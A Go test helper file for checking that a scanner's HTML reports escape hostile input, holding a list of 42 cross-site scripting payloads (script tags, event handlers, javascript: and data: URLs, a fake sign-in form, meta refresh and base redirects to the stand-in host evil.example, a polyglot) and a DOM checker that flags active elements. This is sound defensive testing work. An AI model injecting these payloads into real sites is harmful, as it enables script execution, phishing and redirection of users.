package browsertest

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// Payload is one piece of hostile text a scanned server (or an estate
// file, or a repository) can send, meant to run script, load something or
// navigate when a report puts it into HTML without escaping.
type Payload struct {
	// Mark is unique to the payload ("xss07"): its alert says it, its
	// external URL holds it, and an escaped report shows it as text.
	Mark string
	Text string
	// Context is where the payload is meant to break out of: "body",
	// "attr" (a double-quoted attribute value), "sqattr" (single-quoted),
	// "title", "style", "textarea", "src" (a frame's URL).
	Context string
	// Live says the payload does something in Chromium when put raw into
	// its context, without a click (TestPayloadsAreLiveRaw proves it). The
	// others are kept for the structural check (InertDOM) and for older
	// or other browsers: they need a click, or run in no current browser.
	Live bool
	// DOM says the payload, raw, leaves an element or attribute that
	// InertDOM reports (a form, a javascript: link, a CSS expression)
	// though it does nothing by itself.
	DOM bool
}

// evil is a host outside loopback: the browser never reaches it (the dead
// proxy) but records the attempt.
const evil = "http://evil.example/"

// Payloads are 42 XSS payloads, one of each family: script elements,
// event handlers, SVG and MathML, javascript: and data: URLs, attribute
// and element breakouts, template syntax, CSS, frames, meta refresh,
// <base>, <form>, entity, percent and Unicode encodings, polyglots.
var Payloads = func() []Payload {
	ps := []Payload{
		{Text: `<script>alert('MARK')</script>`, Context: "body", Live: true},
		{Text: `<img src=x onerror=alert('MARK')>`, Context: "body", Live: true},
		{Text: `<svg onload=alert('MARK')>`, Context: "body", Live: true},
		{Text: `<svg><script>alert('MARK')</script></svg>`, Context: "body", Live: true},
		{Text: `javascript:alert('MARK')`, Context: "src", Live: true},
		{Text: `"><script>alert('MARK')</script>`, Context: "attr", Live: true},
		{Text: `'><script>alert('MARK')</script>`, Context: "sqattr", Live: true},
		{Text: `" autofocus onfocus="alert('MARK')" x="`, Context: "attr", Live: true},
		{Text: `</title><script>alert('MARK')</script>`, Context: "title", Live: true},
		{Text: `</style><script>alert('MARK')</script>`, Context: "style", Live: true},
		{Text: `</textarea><script>alert('MARK')</script>`, Context: "textarea", Live: true},
		{Text: `{{constructor.constructor('alert("MARK")')()}}`, Context: "body"},
		{Text: `${alert('MARK')}`, Context: "body"},
		{Text: `<div style="width:expression(alert('MARK'))">MARK</div>`, Context: "body", DOM: true},
		{Text: `<div style="background-image:url(` + evil + `MARK.png)">MARK</div>`, Context: "body", Live: true},
		{Text: `<iframe srcdoc="&lt;script&gt;alert('MARK')&lt;/script&gt;"></iframe>`, Context: "body", Live: true},
		{Text: `<iframe src="data:text/html,<script>parent.alert('MARK')</script>"></iframe>`, Context: "body", Live: true},
		{Text: `<object data="data:text/html;base64,BASE64(<script>alert('MARK')</script>)"></object>`, Context: "body", Live: true},
		{Text: `<meta http-equiv="refresh" content="0;url=` + evil + `MARK">`, Context: "body", Live: true},
		{Text: `<base href="` + evil + `MARK/"><img src="a.png">`, Context: "body", Live: true},
		{Text: `<form action="` + evil + `MARK"><input name=q><button>Sign in</button></form>`, Context: "body", DOM: true},
		{Text: `<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>`, Context: "body"},
		{Text: `<svg><animate onbegin=alert('MARK') attributeName=x dur=1s>`, Context: "body", Live: true},
		{Text: `<a href="javascript:alert('MARK')">MARK</a>`, Context: "body", DOM: true},
		{Text: `<details open ontoggle=alert('MARK')>`, Context: "body", Live: true},
		{Text: `<body onload=alert('MARK')>`, Context: "body", Live: true},
		{Text: `<input autofocus onfocus=alert('MARK')>`, Context: "body", Live: true},
		{Text: `<video><source onerror=alert('MARK')></video>`, Context: "body", Live: true},
		{Text: `<link rel=stylesheet href="` + evil + `MARK.css">`, Context: "body", Live: true},
		{Text: `<embed src="data:text/html,<script>alert('MARK')</script>">`, Context: "body", Live: true},
		{Text: `&lt;script&gt;alert('MARK')&lt;/script&gt;`, Context: "body"},
		{Text: `%3Cscript%3Ealert('MARK')%3C%2Fscript%3E`, Context: "body"},
		{Text: `<<script>alert('MARK');//<</script>`, Context: "body", Live: true},
		{Text: `<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;('MARK')">`, Context: "body", Live: true},
		{Text: `<a href="&#106;avascript:alert('MARK')">MARK</a>`, Context: "body", DOM: true},
		{Text: "\uff1cscript\uff1ealert('MARK')\uff1c/script\uff1e \u202eMARK", Context: "body"},
		{Text: "\u200b\ufeff<script>alert('MARK')</script>", Context: "body", Live: true},
		{Text: `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert('MARK')&lt;/script&gt;"></iframe></foreignObject></svg>`, Context: "body", Live: true},
		{Text: "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('MARK') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('MARK')//>\\x3e", Context: "body", Live: true},
		{Text: `<!--<img src="--><img src=x onerror=alert('MARK')//">`, Context: "body", Live: true},
		{Text: `<noscript><p title="</noscript><img src=x onerror=alert('MARK')>"></noscript>`, Context: "body", Live: true},
		{Text: `<img src="` + evil + `MARK.png">`, Context: "body", Live: true},
	}
	for i := range ps {
		ps[i].Mark = fmt.Sprintf("xss%02d", i+1)
		ps[i].Text = b64(strings.ReplaceAll(ps[i].Text, "MARK", ps[i].Mark))
	}
	return ps
}()

// b64 replaces BASE64(…) in s by the base64 of … (a data: URL's body).
func b64(s string) string {
	i := strings.Index(s, "BASE64(")
	j := strings.LastIndex(s, ")")
	if i < 0 || j < i {
		return s
	}
	return s[:i] + base64.StdEncoding.EncodeToString([]byte(s[i+len("BASE64("):j])) + s[j+1:]
}

// Raw is a page with p put unescaped into its context: what a report that
// forgot to escape would be (the payloads' proof of life).
func (p Payload) Raw() string {
	var in string
	switch p.Context {
	case "attr":
		in = `<input value="` + p.Text + `">`
	case "sqattr":
		in = `<input value='` + p.Text + `'>`
	case "title":
		return `<!doctype html><html><head><title>` + p.Text + `</title></head><body><p>report</p></body></html>`
	case "style":
		return `<!doctype html><html><head><style>p{color:red} ` + p.Text + `</style></head><body><p>report</p></body></html>`
	case "textarea":
		in = `<textarea>` + p.Text + `</textarea>`
	case "src":
		in = `<iframe src="` + p.Text + `"></iframe>`
	default:
		in = p.Text
	}
	return `<!doctype html><html><head><title>report</title></head><body><p>before</p>` + in + `<p>after</p></body></html>`
}

// Did lists what the page did that the payload marked: dialogs saying its
// mark, scripts holding it, requests to its URL.
func (pg *Page) Did(mark string) []string {
	var out []string
	for _, d := range pg.Dialogs() {
		if strings.Contains(d, mark) {
			out = append(out, "dialog "+d)
		}
	}
	for _, s := range pg.Scripts() {
		if strings.Contains(s.Source, mark) {
			out = append(out, s.String())
		}
	}
	for _, r := range pg.Requests() {
		if strings.Contains(r.URL, mark) {
			out = append(out, "request "+r.URL)
		}
	}
	return out
}

// inertJS counts the elements and attributes by which HTML runs script,
// loads from elsewhere or navigates. A report has none of them: its CSS
// and SVG are inline and it has no script (a page with its own script
// files passes them as allowed).
const inertJS = `(() => {
  const out = [];
  const urlAttrs = ['href','src','action','formaction','data','xlink:href','background','poster','codebase','cite','ping','srcset','lowsrc','dynsrc'];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName;
    if (['script','iframe','frame','object','embed','base','form','applet','portal','link','noscript'].includes(tag) && !(tag === 'link' && el.rel === 'icon' && el.href.startsWith('data:')))
      out.push('<' + tag + '>');
    if (tag === 'meta' && el.httpEquiv) out.push('<meta http-equiv=' + el.httpEquiv + '>');
    for (const a of el.attributes) {
      const n = a.name.toLowerCase(), v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (n.startsWith('on')) out.push(tag + '[' + n + ']');
      if (urlAttrs.includes(n) && (v.startsWith('javascript:') || v.startsWith('vbscript:') || (v.startsWith('data:') && tag !== 'img')))
        out.push(tag + '[' + n + '=' + v.slice(0, 40) + ']');
      if (n === 'style' && (v.includes('expression(') || v.includes('url('))) out.push(tag + '[style=' + v.slice(0, 40) + ']');
      if (n === 'srcdoc' || n === 'formaction') out.push(tag + '[' + n + ']');
    }
  }
  return out;
})()`

// InertDOM lists the page's elements and attributes that could run script,
// load from elsewhere or navigate (none in a report).
func (pg *Page) InertDOM() ([]string, error) {
	var out []string
	err := pg.Eval(inertJS, &out)
	return out, err
}

// AssertInert fails t unless the page opened no dialog, compiled no
// script (other than ownScripts' files), made no request beyond
// allowedPrefixes (its own URL, say) and holds no element or attribute
// that could do any of that.
func AssertInert(t testing.TB, what string, pg *Page, allowedPrefixes []string, ownScripts ...string) {
	t.Helper()
	if d := pg.Dialogs(); len(d) > 0 {
		t.Errorf("%s opened %d dialogs: %q", what, len(d), d)
	}
	for _, s := range pg.ScriptsNotFrom(ownScripts...) {
		t.Errorf("%s ran a script: %s", what, s)
	}
	for _, r := range pg.RequestsNotTo(allowedPrefixes...) {
		t.Errorf("%s requested %s (%s %s)", what, r.URL, r.Method, r.Type)
	}
	bad, err := pg.InertDOM()
	if err != nil {
		t.Errorf("%s: %v", what, err)
	}
	if len(bad) > 0 {
		t.Errorf("%s holds %d active elements or attributes: %q", what, len(bad), bad)
	}
}
